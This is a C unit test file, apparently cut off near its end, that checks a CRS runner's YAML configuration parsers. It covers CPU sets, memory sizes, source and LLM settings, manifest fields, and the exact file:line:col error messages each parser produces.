/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_config.c - crs-compose.yaml, crs.yaml, project.yaml and config_check
 *
 * Parsers are fed string literals; config_check runs against a CRS layout
 * written into a temporary folder. Every error case asserts the exact
 * `file:line:col: field: problem` message.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/buf.h"
#include "common/error.h"
#include "common/fsutil.h"
#include "common/log.h"
#include "common/xalloc.h"
#include "runner/config/config.h"
#include "runner/gateway/gw_config.h"
#include "common/strvec.h"
#include "tree_writer.h"

/* ---- helpers ----------------------------------------------------------- */

static struct buf warnings = BUF_INIT;

static void capture(enum log_level level, const char *file, const char *func,
		    int line, const char *msg, void *ctx)
{
	(void)file; (void)func; (void)line; (void)ctx;
	if (level == LOG_WARN) {
		buf_adds(&warnings, msg);
		buf_addch(&warnings, '\n');
	}
}

static int setup_log(void **state)
{
	(void)state;
	buf_reset(&warnings);
	log_set_handler(capture, NULL);
	return 0;
}

static int teardown_log(void **state)
{
	(void)state;
	log_set_handler(NULL, NULL);
	buf_release(&warnings);
	return 0;
}

static struct compose *compose_ok(const char *yaml)
{
	struct compose *c = NULL;
	int r = compose_parse(&c, yaml, strlen(yaml), "compose.yaml");

	if (r != 0)
		fail_msg("unexpected error: %s", crs_error_last());
	assert_non_null(c);
	return c;
}

static void compose_err(const char *yaml, const char *msg)
{
	struct compose *c = (struct compose *)1;

	assert_int_equal(compose_parse(&c, yaml, strlen(yaml),
				       "compose.yaml"), CRS_ECONFIG);
	assert_null(c);
	assert_string_equal(crs_error_last(), msg);
}

static struct manifest *manifest_ok(const char *yaml)
{
	struct manifest *m = NULL;
	int r = manifest_parse(&m, yaml, strlen(yaml),
			       "crs/oss-crs/crs.yaml");

	if (r != 0)
		fail_msg("unexpected error: %s", crs_error_last());
	return m;
}

static void manifest_err(const char *yaml, const char *msg)
{
	struct manifest *m = (struct manifest *)1;

	assert_int_equal(manifest_parse(&m, yaml, strlen(yaml),
					"crs.yaml"), CRS_ECONFIG);
	assert_null(m);
	assert_string_equal(crs_error_last(), msg);
}

/* A string literal and its length. */
#define S(lit) lit, sizeof(lit) - 1

#define INFRA "run_env: local\ndocker_registry: local\n" \
	"oss_crs_infra: {cpuset: \"0\", memory: 4G}\n"

/* A crs.yaml body with everything valid; tests splice in one change. */
#define MANIFEST_HEAD "name: crs-x\ntype: [bug-finding]\nversion: 1.0.0\n"
#define MANIFEST_RUN "crs_run_phase:\n  fuzzer:\n" \
	"    dockerfile: oss-crs/runner.Dockerfile\n"
#define MANIFEST_TARGET "supported_target:\n  mode: [full, delta]\n" \
	"  language: c\n  sanitizer: address\n  architecture: x86_64\n"

/* ---- value parsers ----------------------------------------------------- */

static void test_cpuset(void **state)
{
	uint64_t mask = 0;

	(void)state;
	assert_int_equal(config_parse_cpuset("0-2,5", &mask), 0);
	assert_int_equal(mask, 0x27);
	assert_int_equal(config_parse_cpuset(" 1 ", &mask), 0);
	assert_int_equal(mask, 2);
	assert_int_equal(config_parse_cpuset("63", &mask), 0);
	assert_true(mask == (uint64_t)1 << 63);
	mask = 7;
	assert_int_equal(config_parse_cpuset("0-", &mask), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "\"0-\" is not a CPU list");
	assert_int_equal(mask, 7);
	assert_int_equal(config_parse_cpuset("", &mask), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "\"\" is not a CPU list");
	assert_int_equal(config_parse_cpuset("1,,2", &mask), CRS_ECONFIG);
	assert_int_equal(config_parse_cpuset("a", &mask), CRS_ECONFIG);
	assert_int_equal(config_parse_cpuset("1 - 2", &mask), CRS_ECONFIG);
	assert_int_equal(config_parse_cpuset("3-1", &mask), CRS_ECONFIG);
	assert_string_equal(crs_error_last(),
			    "\"3-1\" is not a CPU list (3-1 runs backwards)");
	assert_int_equal(config_parse_cpuset("0-64", &mask), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "\"0-64\" names cpu 64; at "
			    "most cpu 63 fits a mask");
	assert_int_equal(config_parse_cpuset("99999999999999999999", &mask),
			 CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "\"99999999999999999999\" "
			    "names a cpu above 8191");
}

static void test_memory(void **state)
{
	int64_t b = 0;

	(void)state;
	assert_int_equal(config_parse_memory("4G", &b), 0);
	assert_true(b == (int64_t)4 << 30);
	assert_int_equal(config_parse_memory("512m", &b), 0);
	assert_true(b == (int64_t)512 << 20);
	assert_int_equal(config_parse_memory("1.5 GB", &b), 0);
	assert_true(b == (int64_t)3 << 29);
	assert_int_equal(config_parse_memory("100b", &b), 0);
	assert_true(b == 100);
	assert_int_equal(config_parse_memory("2KiB", &b), 0);
	assert_true(b == 2048);
	assert_int_equal(config_parse_memory("1t", &b), 0);
	assert_true(b == (int64_t)1 << 40);
	assert_int_equal(config_parse_memory("4096", &b), CRS_ECONFIG);
	assert_string_equal(crs_error_last(),
			    "\"4096\" has no unit (use B, K, M, G or T)");
	assert_int_equal(config_parse_memory("4X", &b), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "\"4X\" has an unknown unit "
			    "\"X\" (use B, K, M, G or T)");
	assert_int_equal(config_parse_memory("G", &b), CRS_ECONFIG);
	assert_string_equal(crs_error_last(),
			    "\"G\" is not a size like \"4G\"");
	assert_int_equal(config_parse_memory("4G 2", &b), CRS_ECONFIG);
	assert_int_equal(config_parse_memory("1.G", &b), CRS_ECONFIG);
	assert_int_equal(config_parse_memory("0G", &b), CRS_ECONFIG);
	assert_string_equal(crs_error_last(),
			    "\"0G\" is less than one byte");
	assert_int_equal(config_parse_memory("9999999T", &b), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "\"9999999T\" is too large");
}

static void test_names(void **state)
{
	char long_name[130];

	(void)state;
	assert_true(config_env_name_ok("_A1"));
	assert_true(config_env_name_ok("path"));
	assert_false(config_env_name_ok("1A"));
	assert_false(config_env_name_ok("A-B"));
	assert_false(config_env_name_ok(""));
	assert_true(config_name_ok("crs-libfuzzer"));
	assert_true(config_name_ok("0_a-b"));
	assert_false(config_name_ok("../evil"));
	assert_false(config_name_ok("."));
	assert_false(config_name_ok("my/crs"));
	assert_false(config_name_ok("my crs"));
	assert_false(config_name_ok("-x"));
	memset(long_name, 'a', 128);
	long_name[128] = '\0';
	assert_true(config_name_ok(long_name));
	long_name[128] = 'a';
	long_name[129] = '\0';
	assert_false(config_name_ok(long_name));
}

/* ---- compose ------------------------------------------------------------ */

static void test_compose_valid(void **state)
{
	struct compose *c;
	char cwd[PATH_MAX];
	char *want;

	(void)state;
	c = compose_ok(
		"run_env: local\n"
		"docker_registry: local\n"
		"oss_crs_infra:\n"
		"  cpuset: \" 0 \"\n"
		"  memory: 4G\n"
		"  llm_budget: 3\n"
		"llm_config:\n"
		"  litellm:\n"
		"    mode: internal\n"
		"    model_check: no\n"
		"    internal:\n"
		"      config_path: litellm.yaml\n"
		"crs-a:\n"
		"  cpuset: 1-3\n"
		"  memory: 512m\n"
		"  llm_budget: 10.5\n"
		"  source:\n"
		"    local_path: crs/a/\n"
		"  additional_env:\n"
		"    MODEL: gpt\n"
		"    EMPTY:\n"
		"    COUNT: 3\n"
		"crs_b:\n"
		"  cpuset: \"4\"\n"
		"  memory: 1G\n"
		"  source: {url: https://example.com/x.git, ref: main}\n");
	assert_non_null(getcwd(cwd, sizeof(cwd)));
	assert_string_equal(c->path, "compose.yaml");
	assert_string_equal(c->dir, cwd);
	assert_string_equal(c->run_env, "local");
	assert_string_equal(c->docker_registry, "local");
	assert_string_equal(c->infra.cpuset, "0");
	assert_true(c->infra.memory_bytes == (int64_t)4 << 30);
	assert_true(c->infra.llm_budget == 3.0);
	assert_int_equal(c->has_llm, 1);
	assert_string_equal(c->llm.mode, "internal");
	assert_int_equal(c->llm.model_check, 0);
	want = xasprintf("%s/litellm.yaml", cwd);
	assert_string_equal(c->llm.config_path, want);
	free(want);
	assert_int_equal(c->llm.config_path_pos.line, 12);
	assert_int_equal(c->llm.config_path_pos.column, 7);
	assert_int_equal(c->crs_nr, 2);
	assert_string_equal(c->crs[0].name, "crs-a");
	assert_int_equal(c->crs[0].pos.line, 13);
	assert_int_equal(c->crs[0].pos.column, 1);
	assert_string_equal(c->crs[0].res.cpuset, "1-3");
	assert_int_equal(c->crs[0].res.cpuset_pos.line, 14);
	assert_int_equal(c->crs[0].res.cpuset_pos.column, 3);
	assert_string_equal(c->crs[0].res.cpuset_pos.file, "compose.yaml");
	assert_true(c->crs[0].res.memory_bytes == (int64_t)512 << 20);
	assert_true(c->crs[0].res.llm_budget == 10.5);
	want = xasprintf("%s/crs/a", cwd);
	assert_string_equal(c->crs[0].source_local_path, want);
	free(want);
	assert_string_equal(c->crs[0].source_local_path_shown, "crs/a");
	assert_int_equal(c->crs[0].source_pos.line, 18);
	assert_int_equal(c->crs[0].source_pos.column, 5);
	assert_int_equal(c->crs[0].env.nr, 3);
	assert_string_equal(c->crs[0].env.items[0].key, "MODEL");
	assert_string_equal(c->crs[0].env.items[0].value, "gpt");
	assert_string_equal(c->crs[0].env.items[1].value, "");
	assert_string_equal(c->crs[0].env.items[2].value, "3");
	assert_int_equal(c->crs[0].env.items[2].pos.line, 22);
	assert_null(c->crs[0].manifest);
	assert_string_equal(c->crs[1].name, "crs_b");
	assert_true(c->crs[1].res.llm_budget < 0);
	assert_string_equal(c->crs[1].source_url, "https://example.com/x.git");
	assert_string_equal(c->crs[1].source_ref, "main");
	assert_null(c->crs[1].source_local_path);
	assert_int_equal(warnings.len, 0);
	compose_free(c);
}

/* Registry names, git sources with subdir, local folders. */
static void test_compose_sources(void **state)
{
	struct compose *c = NULL;
	const char *yaml = INFRA
		"crs-libfuzzer: {cpuset: \"1\", memory: 4G}\n"
		"crs-b: {cpuset: \"2\", memory: 1G, source: }\n"
		"crs-c:\n  cpuset: \"3\"\n  memory: 1G\n"
		"  source: {url: \"https://x/y.git\", ref: v1, subdir: a/b/}\n"
		"crs-d:\n  cpuset: \"4\"\n  memory: 1G\n"
		"  source: {local_path: d}\n";

	(void)state;
	assert_int_equal(compose_parse(&c, yaml, strlen(yaml),
				       "compose.yaml"), 0);
	assert_int_equal(c->crs_nr, 4);
	assert_int_equal(c->crs[0].source_kind, COMPOSE_SOURCE_REGISTRY);
	assert_null(c->crs[0].source_local_path);
	assert_null(c->crs[0].source_url);
	assert_int_equal(c->crs[1].source_kind, COMPOSE_SOURCE_REGISTRY);
	assert_int_equal(c->crs[2].source_kind, COMPOSE_SOURCE_GIT);
	assert_string_equal(c->crs[2].source_subdir, "a/b/");
	assert_string_equal(c->crs[2].source_ref, "v1");
	assert_int_equal(c->crs[2].source_pos.line, 9);
	assert_int_equal(c->crs[3].source_kind, COMPOSE_SOURCE_LOCAL);
	compose_free(c);

	/* a url that is a path is the compose folder's, not the cwd's */
	yaml = INFRA "a: {cpuset: \"1\", memory: 1G, source: {url: ../r, "
		"ref: main}}\nb: {cpuset: \"2\", memory: 1G, source: {url: "
		"\"git@host:a/b.git\", ref: main}}\nc: {cpuset: \"3\", "
		"memory: 1G, source: {url: \"file:///x\", ref: main}}\n";
	assert_int_equal(compose_parse(&c, yaml, strlen(yaml),
				       "/srv/cfg/compose.yaml"), 0);
	assert_string_equal(c->crs[0].source_url, "/srv/r");
	assert_string_equal(c->crs[1].source_url, "git@host:a/b.git");
	assert_string_equal(c->crs[2].source_url, "file:///x");
	compose_free(c);

	compose_err(INFRA "crs-a:\n  source: {url: u, ref: r, subdir: /x}\n",
		    "compose.yaml:5:28: crs-a.source.subdir: \"/x\" is not a "
		    "relative path without \".\" or \"..\" parts");
	compose_err(INFRA "crs-a:\n  source: {url: u, ref: r, "
		    "subdir: a/../../b}\n",
		    "compose.yaml:5:28: crs-a.source.subdir: \"a/../../b\" is "
		    "not a relative path without \".\" or \"..\" parts");
	compose_err(INFRA "crs-a:\n  source: {url: u, ref: r, subdir: .}\n",
		    "compose.yaml:5:28: crs-a.source.subdir: \".\" is not a "
		    "relative path without \".\" or \"..\" parts");
	compose_err(INFRA "crs-a:\n  source: {url: u, ref: r, subdir: a//b}\n",
		    "compose.yaml:5:28: crs-a.source.subdir: \"a//b\" is not "
		    "a relative path without \".\" or \"..\" parts");
	compose_err(INFRA "crs-a:\n  source: {local_path: x, subdir: y}\n",
		    "compose.yaml:5:27: crs-a.source: subdir goes with url "
		    "(with local_path, name the folder itself)");
	compose_err(INFRA "crs-a:\n  source: {url: \"\", ref: main}\n",
		    "compose.yaml:5:12: crs-a.source: url is empty");
}

static void test_compose_llm_forms(void **state)
{
	struct compose *c;
	char cwd[PATH_MAX];
	char *want;

	(void)state;
	assert_non_null(getcwd(cwd, sizeof(cwd)));
	c = compose_ok(INFRA "llm_config: {litellm_config: ./models.yaml}\n");
	assert_string_equal(c->llm.mode, "internal");
	want = xasprintf("%s/models.yaml", cwd);
	assert_string_equal(c->llm.config_path, want);
	free(want);
	assert_int_equal(c->llm.model_check, 1);
	compose_free(c);

	c = compose_ok(INFRA "llm_config:\n  litellm:\n    mode: external\n"
		       "    external: {url_env: U, key: secret}\n");
	assert_string_equal(c->llm.mode, "external");
	assert_string_equal(c->llm.url_env, "U");
	assert_string_equal(c->llm.key, "secret");
	assert_null(c->llm.url);
	assert_null(c->llm.config_path);
	compose_free(c);

	c = compose_ok(INFRA "llm_config:\n");
	assert_int_equal(c->has_llm, 0);
	assert_int_equal(c->crs_nr, 0);
	compose_free(c);
}

static void test_compose_warnings(void **state)
{
	struct compose *c;

	(void)state;
	c = compose_ok(INFRA
		       "crs-a:\n"
		       "  cpuset: \"1\"\n"
		       "  memory: 1G\n"
		       "  egress: true\n"
		       "  source: {local_path: x}\n"
		       "  additional_env:\n"
		       "    OSS_CRS_NAME: me\n"
		       "    VERSION: \"2\"\n");
	assert_string_equal(warnings.ptr,
			    "compose.yaml:7:3: crs-a: unknown key \"egress\" "
			    "ignored\n"
			    "compose.yaml:10:5: crs-a.additional_env: "
			    "\"OSS_CRS_NAME\" is reserved: where crs-ci sets "
			    "it, its value wins\n"
			    "compose.yaml:11:5: crs-a.additional_env: "
			    "\"VERSION\" is reserved: where crs-ci sets it, "
			    "its value wins\n");
	assert_int_equal(c->crs[0].env.nr, 2);
	compose_free(c);
}

static void test_compose_errors(void **state)
{
	(void)state;
	compose_err(INFRA "crs-libfuzzer:\n  cpuset: \"0-\"\n  memory: 1G\n",
		    "compose.yaml:5:3: crs-libfuzzer.cpuset: \"0-\" is not a "
		    "CPU list");
	compose_err(INFRA "crs-a:\n  cpuset: 3-1\n",
		    "compose.yaml:5:3: crs-a.cpuset: \"3-1\" is not a CPU "
		    "list (3-1 runs backwards)");
	compose_err(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 4096\n",
		    "compose.yaml:6:3: crs-a.memory: \"4096\" has no unit "
		    "(use B, K, M, G or T)");
	compose_err(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 4Gb2\n",
		    "compose.yaml:6:3: crs-a.memory: \"4Gb2\" is not a size "
		    "like \"4G\"");
	compose_err(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 4 parsecs\n",
		    "compose.yaml:6:3: crs-a.memory: \"4 parsecs\" has an "
		    "unknown unit \"parsecs\" (use B, K, M, G or T)");
	compose_err(INFRA "crs-a: {cpuset: \"1\", memory: 1G, llm_budget: 0}\n",
		    "compose.yaml:4:34: crs-a.llm_budget: \"0\" is not more "
		    "than 0 dollars");
	compose_err(INFRA "crs-a: {llm_budget: lots}\n",
		    "compose.yaml:4:9: crs-a.llm_budget: \"lots\" is not a "
		    "number");
	compose_err(INFRA "crs-a: {cpuset: [1]}\n",
		    "compose.yaml:4:9: crs-a.cpuset: must be a string, not a "
		    "list");
	compose_err(INFRA "crs-a: {cpuset: \"1\"}\n",
		    "compose.yaml:4:1: crs-a: missing \"memory\"");
	compose_err(INFRA "crs-a: {memory: 1G}\n",
		    "compose.yaml:4:1: crs-a: missing \"cpuset\"");
	compose_err(INFRA "crs-a:\n  source: {local_path: x, url: y, ref: z}\n",
		    "compose.yaml:5:3: crs-a.source: give local_path, or url "
		    "and ref, not both");
	compose_err(INFRA "crs-a:\n  source: {url: y}\n",
		    "compose.yaml:5:3: crs-a.source: url needs a ref");
	compose_err(INFRA "crs-a:\n  source: {ref: main}\n",
		    "compose.yaml:5:3: crs-a.source: needs local_path, or url "
		    "and ref");
	compose_err(INFRA "crs-a:\n  source: x\n",
		    "compose.yaml:5:3: crs-a.source: must be a mapping, not a "
		    "scalar");
	compose_err(INFRA "crs-a:\n  additional_env:\n    1BAD: x\n",
		    "compose.yaml:6:5: crs-a.additional_env: \"1BAD\" is not "
		    "an environment variable name");
	compose_err(INFRA "crs-a:\n  additional_env: [A]\n",
		    "compose.yaml:5:3: crs-a.additional_env: must be a "
		    "mapping of names to values, not a list");
	compose_err(INFRA "crs-a:\n  additional_env: {A: {b: c}}\n",
		    "compose.yaml:5:20: crs-a.additional_env.A: must be a "
		    "string, not a mapping");
	compose_err(INFRA "my crs: {}\n",
		    "compose.yaml:4:1: \"my crs\" is not a crs name (1-128 "
		    "letters, digits, '-' or '_', starting with a letter or "
		    "digit)");
	compose_err(INFRA "../evil: {}\n",
		    "compose.yaml:4:1: \"../evil\" is not a crs name (1-128 "
		    "letters, digits, '-' or '_', starting with a letter or "
		    "digit)");
	compose_err(INFRA "crs-a: 3\n",
		    "compose.yaml:4:1: crs-a: must be a mapping, not a scalar");
	compose_err("run_env: azure\n",
		    "compose.yaml:1:1: run_env: \"azure\" is not supported");
	compose_err("run_env: moon\n",
		    "compose.yaml:1:1: run_env: \"moon\" is not local or "
		    "azure");
	compose_err("docker_registry: local\n"
		    "oss_crs_infra: {cpuset: \"0\", memory: 4G}\n",
		    "compose.yaml:1:1: missing \"run_env\"");
	compose_err("run_env: local\n"
		    "oss_crs_infra: {cpuset: \"0\", memory: 4G}\n",
		    "compose.yaml:1:1: missing \"docker_registry\"");
	compose_err("run_env: local\ndocker_registry: local\n",
		    "compose.yaml:1:1: missing \"oss_crs_infra\"");
	compose_err("run_env: local\ndocker_registry: local\n"
		    "oss_crs_infra:\n  memory: 4G\n",
		    "compose.yaml:3:1: oss_crs_infra: missing \"cpuset\"");
	compose_err("run_env: local\ndocker_registry: local\n"
		    "oss_crs_infra: {cpuset: \"0\", memory: 4X}\n",
		    "compose.yaml:3:30: oss_crs_infra.memory: \"4X\" has an "
		    "unknown unit \"X\" (use B, K, M, G or T)");
	compose_err("", "compose.yaml:1:1: file is empty");
	compose_err("- a\n", "compose.yaml:1:1: must be a mapping of "
		    "settings and crs entries");
}

static void test_compose_llm_errors(void **state)
{
	(void)state;
	compose_err(INFRA "llm_config: {}\n",
		    "compose.yaml:4:1: llm_config: missing \"litellm\"");
	compose_err(INFRA "llm_config:\n  litellm: {model_check: true}\n",
		    "compose.yaml:5:3: llm_config.litellm: missing \"mode\"");
	compose_err(INFRA "llm_config:\n  litellm: {mode: magic}\n",
		    "compose.yaml:5:13: llm_config.litellm.mode: \"magic\" is "
		    "not internal or external");
	compose_err(INFRA "llm_config:\n  litellm:\n    mode: internal\n"
		    "    external: {url: u, key: k}\n",
		    "compose.yaml:7:5: llm_config.litellm.external: not "
		    "allowed with mode \"internal\"");
	compose_err(INFRA "llm_config:\n  litellm:\n    mode: external\n"
		    "    internal: {config_path: x}\n",
		    "compose.yaml:7:5: llm_config.litellm.internal: not "
		    "allowed with mode \"external\"");
	compose_err(INFRA "llm_config:\n  litellm:\n    mode: external\n",
		    "compose.yaml:5:3: llm_config.litellm: mode \"external\" "
		    "needs an external block");
	compose_err(INFRA "llm_config:\n  litellm:\n    mode: external\n"
		    "    external: {key: k}\n",
		    "compose.yaml:7:5: llm_config.litellm.external: needs url "
		    "or url_env");
	compose_err(INFRA "llm_config:\n  litellm:\n    mode: external\n"
		    "    external: {url: u, key: k, key_env: K}\n",
		    "compose.yaml:7:5: llm_config.litellm.external: give key "
		    "or key_env, not both");
	compose_err(INFRA "llm_config:\n  litellm:\n    mode: internal\n"
		    "    model_check: maybe\n",
		    "compose.yaml:7:5: llm_config.litellm.model_check: "
		    "\"maybe\" is not true or false");
}

static void test_yaml_errors(void **state)
{
	struct compose *c = NULL;

	(void)state;
	compose_err("run_env: local\nrun_env: local\n",
		    "compose.yaml:2:1: run_env: duplicate key (first at line "
		    "1)");
	compose_err(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		    "  cpuset: \"2\"\n",
		    "compose.yaml:7:3: crs-a.cpuset: duplicate key (first at "
		    "line 5)");
	compose_err("run_env: local\n  bad: [\n",
		    "compose.yaml:2:6: invalid yaml: mapping values are not "
		    "allowed in this context");
	compose_err("a: [1, 2\n",
		    "compose.yaml:2:1: invalid yaml: did not find expected ',' "
		    "or ']' (while parsing a flow sequence at line 1, column "
		    "4)");
	compose_err("a: \"x\xff\"\n",
		    "compose.yaml:1:6: invalid yaml: invalid leading UTF-8 "
		    "octet");
	compose_err("a: 1\n---\nb: 2\n",
		    "compose.yaml:2:1: invalid yaml: more than one document");
	compose_err("? [a]\n: b\n",
		    "compose.yaml:1:3: a key must be a string");
	compose_err(INFRA "crs-a: {cpuset: \"\\0\"}\n",
		    "compose.yaml:4:9: crs-a.cpuset: contains a NUL byte");
	/* an alias looping back into itself must not hang the walk */
	compose_err(INFRA "crs-a: &x {cpuset: \"1\", memory: 1G, "
		    "source: {local_path: y}, additional_env: *x}\n",
		    "compose.yaml:4:37: crs-a.additional_env.source: must be a "
		    "string, not a mapping");
	/* shared nodes through aliases are fine */
	assert_int_equal(compose_parse(&c, S(INFRA "crs-a: &x {cpuset: \"1\", "
					     "memory: 1G, source: {local_path: "
					     "y}}\ncrs-b: *x\n"),
				       "compose.yaml"), 0);
	assert_int_equal(c->crs_nr, 2);
	assert_string_equal(c->crs[1].res.cpuset, "1");
	compose_free(c);
}

/* ---- crs.yaml ------------------------------------------------------------ */

static void test_manifest_valid(void **state)
{
	struct manifest *m;
	char cwd[PATH_MAX];
	char *root;

	(void)state;
	m = manifest_ok(
		"name: crs-x\n"
		"type:\n"
		"  - bug-finding\n"
		"  - bug-fixing\n"
		"  - bug-finding\n"
		"version: \" 1.0.0 \"\n"
		"docker_registry: ghcr.io/x\n"
		"prepare_phase:\n"
		"  hcl: oss-crs/docker-bake.hcl\n"
		"target_build_phase:\n"
		"  - name: build\n"
		"    dockerfile: oss-crs/builder.Dockerfile\n"
		"    outputs: [build, src/x..y]\n"
		"    additional_env: {A: b}\n"
		"  - name: cov\n"
		"    dockerfile: Dockerfile.cov\n"
		"crs_run_phase:\n"
		"  fuzzer:\n"
		"    dockerfile: oss-crs/runner.Dockerfile\n"
		"    target_dependent: false\n"
		"  watcher:\n"
		"    dockerfile: oss-crs/watch.Dockerfile\n"
		"supported_target:\n"
		"  mode: [full, delta]\n"
		"  language: c\n"
		"  sanitizer: [address, undefined]\n"
		"  architecture: x86_64\n"
		"required_llms: [gpt-4o, gpt-4o]\n"
		"required_inputs: [diff, patch, diff]\n"
		"required_envs: [A, B_2, A]\n");
	assert_non_null(getcwd(cwd, sizeof(cwd)));
	root = xasprintf("%s/crs", cwd);
	assert_string_equal(m->path, "crs/oss-crs/crs.yaml");
	assert_string_equal(m->root, root);
	free(root);
	assert_string_equal(m->name, "crs-x");
	assert_int_equal(m->types,
			 MANIFEST_TYPE_BUG_FINDING | MANIFEST_TYPE_BUG_FIXING);
	assert_string_equal(m->version, "1.0.0");
	assert_string_equal(m->prepare_hcl, "oss-crs/docker-bake.hcl");
	assert_int_equal(m->builds_nr, 2);
	assert_string_equal(m->builds[0].name, "build");
	assert_string_equal(m->builds[0].dockerfile,
			    "oss-crs/builder.Dockerfile");
	assert_int_equal(m->builds[0].dockerfile_pos.line, 12);
	assert_int_equal(m->builds[0].dockerfile_pos.column, 5);
	assert_int_equal(m->builds[0].pos.line, 11);
	assert_int_equal(m->builds[0].outputs_nr, 2);
	assert_string_equal(m->builds[0].outputs[1], "src/x..y");
	assert_null(m->builds[0].outputs[2]);
	assert_int_equal(m->builds[0].env.nr, 1);
	assert_int_equal(m->builds[1].outputs_nr, 0);
	assert_null(m->builds[1].outputs[0]);
	assert_int_equal(m->modules_nr, 2);
	assert_string_equal(m->modules[0].name, "fuzzer");
	assert_int_equal(m->modules[0].target_dependent, 0);
	assert_int_equal(m->modules[1].target_dependent, 1);
	assert_int_equal(m->modules[0].pos.line, 18);
	assert_int_equal(m->run_phase_pos.line, 17);
	assert_int_equal(m->modes_nr, 2);
	assert_int_equal(m->languages_nr, 1);
	assert_string_equal(m->languages[0], "c");
	assert_int_equal(m->languages_pos.line, 25);
	assert_int_equal(m->languages_pos.column, 3);
	assert_int_equal(m->sanitizers_nr, 2);
	assert_int_equal(m->engines_nr, 4);
	assert_string_equal(m->engines[3], "centipede");
	assert_int_equal(m->engines_pos.line, 23);
	assert_int_equal(m->required_llms_nr, 1);
	assert_int_equal(m->required_inputs_nr, 2);
	assert_string_equal(m->required_inputs[1], "patch");
	assert_int_equal(m->required_envs_nr, 2);
	assert_string_equal(m->required_envs[1], "B_2");
	assert_null(m->required_envs[2]);
	assert_int_equal(m->required_envs_pos[1].line, 30);
	assert_int_equal(m->required_envs_pos[1].column, 20);
	assert_int_equal(warnings.len, 0);
	manifest_free(m);

	/* {builds: [...]}, an empty run phase, unknown keys warned */
	m = manifest_ok(MANIFEST_HEAD
			"target_build_phase:\n"
			"  builds:\n"
			"    - {name: b, dockerfile: x.Dockerfile, cache: y}\n"
			"crs_run_phase: {}\n" MANIFEST_TARGET
			"  fuzzing_engine: libfuzzer\n"
			"snapshot: true\n");
	assert_int_equal(m->builds_nr, 1);
	assert_int_equal(m->modules_nr, 0);
	assert_int_equal(m->engines_nr, 1);
	assert_null(m->prepare_hcl);
	assert_string_equal(warnings.ptr,
			    "crs/oss-crs/crs.yaml:6:43: "
			    "target_build_phase.builds[0]: unknown key "
			    "\"cache\" ignored\n"
			    "crs/oss-crs/crs.yaml:14:1: unknown key "
			    "\"snapshot\" ignored\n");
	manifest_free(m);
}

static void test_manifest_errors(void **state)
{
	(void)state;
	manifest_err("name: x\ntype: [bug-finding, fuzzer]\n",
		     "crs.yaml:2:21: type[1]: \"fuzzer\" is not a crs type "
		     "(bug-finding, bug-fixing, bug-fixing-ensemble, "
		     "bug-finding-triage, seed-filter or harness-gen)");
	manifest_err("name: x\ntype: fuzzer\n",
		     "crs.yaml:2:1: type: \"fuzzer\" is not a crs type "
		     "(bug-finding, bug-fixing, bug-fixing-ensemble, "
		     "bug-finding-triage, seed-filter or harness-gen)");
	manifest_err("name: x\ntype: []\n", "crs.yaml:2:1: type: is empty");
	manifest_err("name: x\nversion: \"  \"\n",
		     "crs.yaml:2:1: version: is empty");
	manifest_err("name: x\nprepare_phase: {hcl: bake.txt}\n",
		     "crs.yaml:2:17: prepare_phase.hcl: \"bake.txt\" does not "
		     "end in \".hcl\"");
	manifest_err("name: x\nprepare_phase: {}\n",
		     "crs.yaml:2:1: prepare_phase: missing \"hcl\"");
	manifest_err("target_build_phase:\n  - name: b\n"
		     "    dockerfile: build.docker\n",
		     "crs.yaml:3:5: target_build_phase[0].dockerfile: "
		     "\"build.docker\" is not a Dockerfile path (it must "
		     "contain \"Dockerfile\")");
	manifest_err("target_build_phase:\n  - name: b\n"
		     "    dockerfile: Dockerfile\n"
		     "    outputs: [ok, a/../../x]\n",
		     "crs.yaml:4:19: target_build_phase[0].outputs[1]: "
		     "\"a/../../x\" leaves BUILD_OUT_DIR");
	manifest_err("target_build_phase:\n  - name: b\n"
		     "    dockerfile: Dockerfile\n    outputs: [/out]\n",
		     "crs.yaml:4:15: target_build_phase[0].outputs[0]: "
		     "\"/out\" is absolute; outputs are relative to "
		     "BUILD_OUT_DIR");
	manifest_err("target_build_phase:\n  - name: b\n"
		     "    dockerfile: Dockerfile\n    outputs: build\n",
		     "crs.yaml:4:5: target_build_phase[0].outputs: must be a "
		     "list");
	manifest_err("target_build_phase:\n"
		     "  - {name: b, dockerfile: Dockerfile}\n"
		     "  - {name: b, dockerfile: Dockerfile}\n",
		     "crs.yaml:3:5: target_build_phase[1]: step name \"b\" is "
		     "already used at line 2");
	manifest_err("target_build_phase:\n  - {dockerfile: Dockerfile}\n",
		     "crs.yaml:2:5: target_build_phase[0]: missing \"name\"");
	manifest_err("target_build_phase: {steps: []}\n",
		     "crs.yaml:1:1: target_build_phase: missing \"builds\"");
	manifest_err("target_build_phase: x\n",
		     "crs.yaml:1:1: target_build_phase: must be a list of "
		     "build steps, not a scalar");
	manifest_err("crs_run_phase:\n  fuzzer: {target_dependent: maybe}\n",
		     "crs.yaml:2:12: crs_run_phase.fuzzer.target_dependent: "
		     "\"maybe\" is not true or false");
	manifest_err("crs_run_phase:\n  fuzzer: {}\n",
		     "crs.yaml:2:3: crs_run_phase.fuzzer: missing "
		     "\"dockerfile\"");
	manifest_err("crs_run_phase:\n  a.b: {}\n",
		     "crs.yaml:2:3: crs_run_phase: \"a.b\" is not a valid "
		     "module name");
	manifest_err("crs_run_phase:\n  fuzzer:\n"
		     "    additional_env: {A-B: 1}\n",
		     "crs.yaml:3:22: crs_run_phase.fuzzer.additional_env: "
		     "\"A-B\" is not an environment variable name");
	manifest_err("supported_target:\n  mode: full\n  language: cobol\n",
		     "crs.yaml:3:3: supported_target.language: \"cobol\" is "
		     "not a language (c, c++, go, rust, python, jvm, swift, "
		     "javascript or lua)");
	manifest_err("supported_target:\n  mode: full\n  language: []\n",
		     "crs.yaml:3:3: supported_target.language: is empty");
